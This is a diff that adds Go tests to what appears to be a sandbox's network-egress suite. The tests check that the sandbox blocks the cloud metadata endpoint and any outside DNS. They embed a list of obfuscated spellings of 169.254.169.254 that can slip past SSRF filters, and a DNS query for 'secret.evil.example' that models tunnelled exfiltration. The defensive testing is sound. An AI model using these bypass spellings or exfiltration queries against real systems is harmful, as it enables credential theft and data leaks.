@@ -210,3 +210,84 @@ os._exit(7)
 		t.Error("the tunnel outlives the tool")
 	}
 }
+
+// What a program makes of a name is the same address, however it was written.
+func TestNoSpellingLeadsToTheCloudsMetadata(t *testing.T) {
+	p := python(t, `
+import socket, errno
+def attempt(host):
+    try:
+        s = socket.create_connection((host, 80), 60)
+        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
+        return repr(s.recv(1))
+    except socket.gaierror:
+        return "no such name"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0xA9.0xFE.0xA9.0xFE", "0251.0376.0251.0376", "169.254.43518", "169.16689662",
+             "\uff11\uff16\uff19.254.169.254",
+             "::ffff:169.254.169.254", "::a9fe:a9fe", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:0:1:2:3:4:5601:5601", "fd00:ec2::254",
+             "metadata", "metadata.google.internal", "169.254.169.254.nip.io", "instance-data"):
+    print(host, attempt(host))
+`)
+	p.job.Network.Allow = []network.Rule{rule("*.example.com", port(80)), rule("203.0.113.0/24", port(80))}
+	var o outside
+	p.tunnel = o.serve(t, nil, func(*net.TCPConn) {})
+	got := p.run(t)
+	lines := strings.Split(strings.TrimSpace(string(got.Stdout)), "\n")
+	if len(lines) != 19 || strings.Contains(string(got.Stdout), " b'") || len(o.targets) > 0 {
+		t.Errorf("stdout %s, stderr %s, the gateway was asked for %v", got.Stdout, got.Stderr, o.targets)
+	}
+	// Those eight that are numbers, at least: what becomes of IPv6 is the kernel's, which has no way for it.
+	if all := counts(got.Attempts); all["tcp 169.254.169.254:80"] < 8 || all["dns metadata.google.internal"] == 0 || all["dns 169.254.169.254.nip.io"] == 0 {
+		t.Errorf("refused %v", all)
+	}
+}
+
+// By no path does a query reach anybody: not by the protocols that DNS has, nor within others.
+func TestNoNameServerIsReached(t *testing.T) {
+	p := python(t, `
+import socket, errno
+query = bytes.fromhex("000101000001000000000000") + b"\x06secret\x04evil\x07example\x00\x00\x10\x00\x01"
+def tcp(host, port):
+    try:
+        s = socket.create_connection((host, port), 60)
+        s.sendall(len(query).to_bytes(2, "big") + query)
+        got = s.recv(512)
+        return "code %d" % (got[5] & 15) if len(got) > 5 else "nothing"
+    except socket.gaierror:
+        return "no such name"
+    except BrokenPipeError:
+        return "ECONNRESET" # which of the two it is depends on who was faster
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+def udp(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(60)
+    try:
+        s.connect((host, port))
+        s.send(query)
+        return "code %d" % (s.recv(512)[3] & 15)
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+for host, port in ("1.1.1.1", 53), ("1.1.1.1", 853), ("1.1.1.1", 443), ("dns.google", 443), ("dns.google", 853), ("127.0.0.1", 53):
+    print("tcp", host, port, tcp(host, port))
+for host, port in ("1.1.1.1", 53), ("1.1.1.1", 443), ("1.1.1.1", 853), ("127.0.0.1", 53):
+    print("udp", host, port, udp(host, port))
+`)
+	p.job.Network.Allow = []network.Rule{rule("api.example.com", port(443))}
+	var o outside
+	p.tunnel = o.serve(t, nil, func(*net.TCPConn) {})
+	got := p.run(t)
+	want := strings.Join([]string{
+		"tcp 1.1.1.1 53 ECONNREFUSED", "tcp 1.1.1.1 853 ECONNREFUSED", "tcp 1.1.1.1 443 ECONNRESET", "tcp dns.google 443 no such name",
+		"tcp dns.google 853 no such name", "tcp 127.0.0.1 53 code 3",
+		"udp 1.1.1.1 53 ECONNREFUSED", "udp 1.1.1.1 443 ECONNREFUSED", "udp 1.1.1.1 853 ECONNREFUSED", "udp 127.0.0.1 53 code 3",
+	}, "\n") + "\n"
+	if string(got.Stdout) != want || len(o.targets) > 0 {
+		t.Errorf("got\n%s\nwant\n%s\nstderr %s, the gateway was asked for %v", got.Stdout, want, got.Stderr, o.targets)
+	}
+	if all := counts(got.Attempts); all["dns secret.evil.example"] != 2 || all["tcp 1.1.1.1:443"] != 1 || all["udp 1.1.1.1:53"] != 1 {
+		t.Errorf("refused %v", all)
+	}
+}
